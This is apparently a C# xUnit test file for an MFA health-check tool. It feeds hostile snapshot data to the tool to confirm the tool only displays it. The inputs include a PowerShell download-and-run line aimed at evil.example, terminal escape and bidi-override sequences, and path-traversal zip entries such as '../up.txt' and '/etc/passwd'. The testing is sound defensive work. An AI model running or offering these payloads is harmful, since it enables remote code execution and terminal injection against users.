using System;
using System.Collections;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text.Json.Nodes;
using System.Threading.Tasks;
using MfaTools.Core.Tests.Foundation;
using MfaTools.Checks;
using MfaTools.Knowledge;
using MfaTools.Reports;
using MfaTools.Snapshots;

namespace MfaTools.Core.Tests.Health;

/// <summary>A snapshot comes from a stranger: what it says is shown as text, and is never advice of this
/// module.</summary>
public sealed class HostileSnapshotTests : IDisposable
{
    /// <summary>Writes to the clipboard, makes a link, colors, turns the direction of text, hides, and ends
    /// lines.</summary>
    internal const string Hostile =
        "\u001b]52;c;QUFB\u0007\u001b]8;;"
            + "https://evil.example\u001b\\\u009b31m\u0085\u061c\u200b\u200f\u2028\u2029\u202e\u2066\ufeff\b\0";

    private const string Evil = "iex (irm https://evil.example/fix.ps1)";

    private static readonly string[] Samples = ["first-story", "scenarios/resolves-externally"];

    private readonly string _folder = Directory.CreateTempSubdirectory("mfatools").FullName;

    public static TheoryData<string> Names => new(Samples);

    /// <summary>Also what is said while it is checked.</summary>
    [Theory]
    [MemberData(nameof(Names))]
    public async Task No_text_of_any_field_is_obeyed_by_a_terminal(string name)
    {
        int planted = 0;
        foreach (var (file, change) in Strings(name))
        {
            planted++;
            await CheckAsync(name, file, change(text => text + Hostile));
            if (planted % 3 == 0) await CheckAsync(name, file, change(_ => Hostile));
        }

        Assert.True(planted > 20, $"{planted} fields");
    }

    /// <summary>Every field once null, empty, a number and a list: the check ends in a diagnosis.</summary>
    [Theory]
    [MemberData(nameof(Names))]
    public async Task Whatever_a_field_holds_there_is_a_diagnosis(string name)
    {
        JsonNode?[] values = [null, "", -1, new JsonArray(), new JsonObject()];
        int at = 0;
        foreach (var (file, change) in Fields(name))
        {
            if (file == "manifest.json") continue;
            await CheckAsync(name, file, change(values[at++ % values.Length]));
        }

        Assert.True(at > 20, $"{at} fields");
    }

    [Theory]
    [InlineData("Sdk.Unauthorized", CheckStatus.Fail, CheckStatus.Fail)]
    [InlineData("Sdk.CallFailed", CheckStatus.Fail, CheckStatus.Fail)]
    [InlineData("Sdk.BadConfig", CheckStatus.Warning, CheckStatus.Warning)]
    [InlineData("Net.DnsFailed", CheckStatus.Fail, CheckStatus.Fail)]
    [InlineData("Cert.Expired", CheckStatus.Fail, CheckStatus.Fail)]
    [InlineData("Cert.Expired", CheckStatus.Pass, CheckStatus.Unknown)]
    [InlineData("Sdk.Invented", CheckStatus.Fail, CheckStatus.Unknown)]
    [InlineData("Access.Denied", CheckStatus.Fail, CheckStatus.Unknown)]
    public async Task Of_a_connection_test_count_ids_and_what_was_seen(string id, CheckStatus said, CheckStatus judged)
    {
        string json = $$"""
            [{ "Target": "C:\\web.config", "Uri": "https://mfa.contoso.com/MultiFactorAuthWebServiceSdk/PfWsSdk.asmx", "Status": "Pass",
               "Summary": "{{Evil}}", "Stages": [{ "Name": "Config", "Status": "Pass", "Detail": "as read" }],
               "Findings": [{ "Id": "{{id}}", "Status": "{{said}}", "Message": "{{Evil}}", "Evidence": "HTTP 401", "Recommendation": "{{Evil}}",
                              "Command": "{{Evil}}", "Undo": "{{Evil}}", "HelpUri": "https://evil.example", "Acknowledged": "{{Evil}}" }] }]
            """;
        var results = await CheckAsync("scenarios/healthy", "sdk.json", json);
        var sdk = results.OfType<SdkConnectionResult>().Single();
        var finding = Assert.Single(sdk.Findings);
        Assert.Equal((judged, judged), (sdk.Status, finding.Status));
        if (FindingPage.Find(id) is not null && id != "Access.Denied")
        {
            Assert.Contains("the snapshot says: ", finding.Evidence, StringComparison.Ordinal);
        }

        Assert.Null(finding.Acknowledged);
        var cause = ((DiagnosisResult)results[^1]).Causes.SingleOrDefault();
        string?[] advice =
        [
            sdk.Summary, finding.Message, finding.Recommendation, finding.Command, finding.Undo, finding.HelpUri,
            cause?.Message, cause?.Fix, cause?.Command, cause?.Undo, cause?.Symptom,
        ];
        Assert.All(advice.OfType<string>(), text => Assert.DoesNotContain("evil", text, StringComparison.Ordinal));
        Assert.True(judged != CheckStatus.Fail || cause is not null);
    }

    [Theory]
    [InlineData("""{ "Name": "SdkCall", "Status": "Pass" }""", CheckStatus.Pass)]
    [InlineData("""{ "Name": "SdkCall", "Status": "Fail" }""", CheckStatus.Unknown)]
    [InlineData("""{ "Name": "SdkCall", "Status": "Skipped" }""", CheckStatus.Unknown)]
    [InlineData("", CheckStatus.Unknown)]
    public async Task A_pass_is_one_by_its_stages(string stages, CheckStatus judged)
    {
        string json = $$"""
            [{ "Target": "C:\\web.config", "Uri": "https://mfa.contoso.com/x/PfWsSdk.asmx", "Status": "Pass", "Summary": "fine", "Stages": [{{stages}}],
               "Findings": [{ "Id": "Sdk.Ok", "Status": "Pass", "Message": "fine", "Evidence": "fine" }] }]
            """;
        var results = await CheckAsync("scenarios/healthy", "sdk.json", json);
        Assert.Equal(judged, results.OfType<SdkConnectionResult>().Single().Status);
    }

    /// <summary>What is said of every finding of an id stands on its page.</summary>
    [Fact]
    public void Every_page_says_what_is_the_case_and_what_to_do()
    {
        string[] ids =
        [
            .. Directory.GetFiles(Path.Combine(Repository.Root, "docs", "checks"), "*.*.md")
                .Select(file => Path.GetFileNameWithoutExtension(file)),
        ];
        Assert.True(ids.Length > 50);
        Assert.All(ids, id =>
        {
            var page = FindingPage.Find(id)!;
            Assert.EndsWith(".", page.Meaning, StringComparison.Ordinal);
            Assert.True(page.Fix.Length > 0, id);
            Assert.DoesNotContain("](", page.Meaning + page.Fix, StringComparison.Ordinal);
        });
    }

    [Fact]
    public async Task Who_names_account_and_path_of_a_grant_is_said()
    {
        var access = (await CheckAsync("first-story", null, null))
            .OfType<AttachmentAccessResult>().First(result => result.SmallestGrant is { Length: > 0 });
        var finding = access.Findings.First(one => one.Undo is not null);
        Assert.Contains("those in the snapshot", finding.Recommendation, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Files_that_are_left_out_are_named_without_what_a_terminal_obeys()
    {
        string zip = Path.Combine(_folder, "odd.zip");
        using (var archive = System.IO.Compression.ZipFile.Open(zip, System.IO.Compression.ZipArchiveMode.Create))
        {
            foreach (string file in Directory.GetFiles(Sample("scenarios/healthy"), "*", SearchOption.AllDirectories))
            {
                using var entry = archive.CreateEntry(
                    Path.GetRelativePath(Sample("scenarios/healthy"), file).Replace('\\', '/')).Open();
                entry.Write(File.ReadAllBytes(file));
            }

            foreach (string name in new[] { "../up.txt", "logs/a\u001b[31m.log", "logs/b\u202e.log", "/etc/passwd" })
            {
                archive.CreateEntry(name);
            }
        }

        using var folder = SnapshotFolder.Open(zip);
        var results = await RunAsync(folder);
        string said = results.OfType<NotCheckedResult>().Single(result => result.Target == "Snapshot").Summary;
        Assert.Equal(
            "No check reads 4 files of the snapshot: ../up.txt, /etc/passwd, logs/a\uFFFD[31m.log, logs/b\uFFFD.log.",
            said);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private static string Sample(string name) => Path.Combine(Repository.Root, "docs", "samples", name);

    private static IEnumerable<(string File, Func<Func<string, string>, string> Change)> Strings(string name) =>
        Walk(name, node => node is JsonValue value && value.TryGetValue<string>(out _)).Select(one =>
            (one.File, (Func<Func<string, string>, string>)(change => one.Replace(old => change((string)old!)))));

    private static IEnumerable<(string File, Func<JsonNode?, string> Change)> Fields(string name) =>
        Walk(name, _ => true).Select(
            one => (one.File, (Func<JsonNode?, string>)(value => one.Replace(_ => value?.DeepClone()))));

    /// <summary>Each value of each JSON file of a sample, and the file with another in its place.</summary>
    private static IEnumerable<(string File, Func<Func<JsonNode?, JsonNode?>, string> Replace)> Walk(
        string name, Func<JsonNode?, bool> wants)
    {
        foreach (string path in Directory.GetFiles(Sample(name), "*.json"))
        {
            string text = File.ReadAllText(path);
            int count = Nodes(JsonNode.Parse(text)!).Count();
            for (int i = 0; i < count; i++)
            {
                int at = i;
                if (!wants(Nodes(JsonNode.Parse(text)!).ElementAt(at).Value)) continue;
                yield return (Path.GetFileName(path), change =>
                {
                    var root = JsonNode.Parse(text)!;
                    var (value, set) = Nodes(root).ElementAt(at);
                    set(change(value));
                    return root.ToJsonString();
                });
            }
        }
    }

    private static IEnumerable<(JsonNode? Value, Action<JsonNode?> Set)> Nodes(JsonNode node)
    {
        if (node is JsonObject fields)
        {
            foreach (string key in fields.Select(field => field.Key).ToList())
            {
                var value = fields[key];
                yield return (value, other => fields[key] = other);
                foreach (var below in value is null ? [] : Nodes(value)) yield return below;
            }
        }
        else if (node is JsonArray items)
        {
            for (int i = 0; i < items.Count; i++)
            {
                int at = i;
                yield return (items[i], other => items[at] = other);
                foreach (var below in items[i] is { } item ? Nodes(item) : []) yield return below;
            }
        }
    }

    private async Task<List<CheckResult>> CheckAsync(string name, string? file, string? content)
    {
        string copy = Path.Combine(_folder, Guid.NewGuid().ToString("N"));
        foreach (string from in Directory.GetFiles(Sample(name), "*", SearchOption.AllDirectories))
        {
            string to = Path.Combine(copy, Path.GetRelativePath(Sample(name), from));
            Directory.CreateDirectory(Path.GetDirectoryName(to)!);
            File.Copy(from, to);
        }

        if (file is not null) await File.WriteAllTextAsync(Path.Combine(copy, file), content);
        using var folder = SnapshotFolder.Open(copy);
        try
        {
            return await RunAsync(folder);
        }
        catch (FormatException e) when (file == "manifest.json")
        {
            // A manifest that is no manifest: what the error says is shown, too.
            Assert.Empty(Found(e.Message));
            return [];
        }
        catch (Exception e) when (e is not Xunit.Sdk.XunitException)
        {
            throw new InvalidOperationException($"{file}: {content}", e);
        }
        finally
        {
            Directory.Delete(copy, recursive: true);
        }
    }

    private static async Task<List<CheckResult>> RunAsync(SnapshotFolder folder)
    {
        var results = new List<CheckResult>();
        results.AddRange(
            await new HealthCheck(
                SnapshotSources.Create(folder), new HealthOptions(), what => Assert.Empty(Found(what))).RunAsync(
                    default));
        Assert.IsType<DiagnosisResult>(results[^1]);
        Assert.Empty(Found(results));
        // A build server's format holds what XML can hold.
        Assert.NotNull(JUnitReport.Create(new Report(results, default, "1.0")).ToString());
        return results;
    }

    /// <summary>The texts in an object that a terminal obeys, with where they stand.</summary>
    private static IEnumerable<string> Found(object? value, string where = "")
    {
        switch (value)
        {
            case null or Enum or DateTime or TimeSpan:
                return [];
            case string text:
                return Enumerable.Range(0, text.Length).Any(i => PlainTextTests.IsHostile(text, i))
                    ? [$"{where}: {text}"]
                    : [];
            case IEnumerable items:
                return items.Cast<object?>().SelectMany(item => Found(item, where));
            default:
                var type = value.GetType();
                return type.Assembly != typeof(CheckResult).Assembly ? [] : type.GetProperties()
                    .Where(property => property.GetIndexParameters().Length == 0)
                    .SelectMany(property => Found(property.GetValue(value), $"{where}/{type.Name}.{property.Name}"));
        }
    }
}
